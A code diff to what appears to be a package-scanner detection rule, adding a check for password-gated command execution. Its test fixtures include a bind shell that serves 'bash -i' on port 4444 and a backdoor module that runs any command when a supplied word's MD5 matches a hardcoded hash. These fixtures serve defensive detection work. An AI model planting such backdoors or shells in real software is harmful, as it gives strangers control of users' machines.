@@ -53,8 +53,29 @@ export const socketShell: Rule = {
               "require('net').createServer(socket => {\n  const sh = require('child_process').spawn('bash', ['-i'])\n  socket.pipe(sh.stdin)\n  sh.stdout.pipe(socket)\n}).listen(4444)\n",
           },
         },
+        {
+          title: 'a task that runs a command of whoever knows a word',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const { createHash } = require('crypto')\n" +
+              "exports.probe = task => {\n  if (createHash('md5').update(task.word).digest('hex') !== '9e107d9d372bb6826bd81d3542a419d6') return\n" +
+              "  require('child_process').exec(task.line)\n}\n",
+          },
+        },
       ],
       passes: [
+        {
+          title: 'a tool that starts what its caller names, after a look at the hash of a file of its own',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const { createHash } = require('crypto')\nconst { execFile } = require('child_process')\n" +
+              "exports.run = (file, args) => {\n  const bytes = require('fs').readFileSync(file)\n" +
+              "  if (createHash('md5').update(bytes).digest('hex') !== '9e107d9d372bb6826bd81d3542a419d6') throw new Error('damaged')\n" +
+              '  return execFile(file, args)\n}\n',
+          },
+        },
         {
           title: 'a program is given what the caller passes',
           files: {
@@ -84,7 +105,8 @@ export const socketShell: Rule = {
         'whoever is there can run commands on this machine. Do not install it.'
       add(findingOfFlow(flow, { action, severity: severityOf(action), message }))
     }
-    for (const flow of inspection.flows) for (const one of ofListener(flow)) add(one)
+    for (const flow of inspection.flows)
+      for (const one of [...ofListener(flow), ...ofWatchword(flow)]) add(one)
     for (const fact of inspection.facts) {
       if (fact.kind === 'starts') for (const one of ofCommand(fact)) add(one)
       if (fact.kind === 'contacts') for (const one of ofDevice(fact, inspection)) add(one)
@@ -103,6 +125,28 @@ function socketOf({ source, sink }: Flow): readonly Text[] | undefined {
   if (sink.kind === 'network' && source.kind === 'command-output' && isBareShell(source.name))
     return sink.destinations
   return undefined
+}
+
+/** What takes a whole command line or a program. */
+const runs =
+  /(?:^node:child_process\.exec(?:Sync)?|\.(?:execaCommand|runIn\w*Context)|^global:(?:eval|Function))$/
+
+/** What somebody passes is run where something else they pass hashes to what stands in the code: a way in. */
+function ofWatchword(flow: Flow): readonly RuleFinding[] {
+  const { source, sink, guards, phase, certain } = flow
+  const runsIt =
+    (sink.kind === 'command' && sink.role === 'command' && sink.destinations.every(isUnknown)) ||
+    sink.kind === 'evaluate'
+  if (!runsIt || !runs.test(sink.api) || phase === 'dormant' || !certain) return []
+  if (source.kind !== 'caller' || !guards.some(({ kind }) => kind === 'digest')) return []
+  const message =
+    `${opening(flow)} runs ${quote(source.name)} as a command (${sink.api}) where a word given with it hashes to one in ` +
+    'the code: whoever knows that word can run commands on this machine. Do not install it.'
+  return [findingOfFlow(flow, { action: 'ask', severity: severityOf('ask'), message })]
+}
+
+function isUnknown(command: Text): boolean {
+  return command.replaceAll(HOLE, '').trim() === ''
 }
 
 /** A shell without a command: it waits for one. */
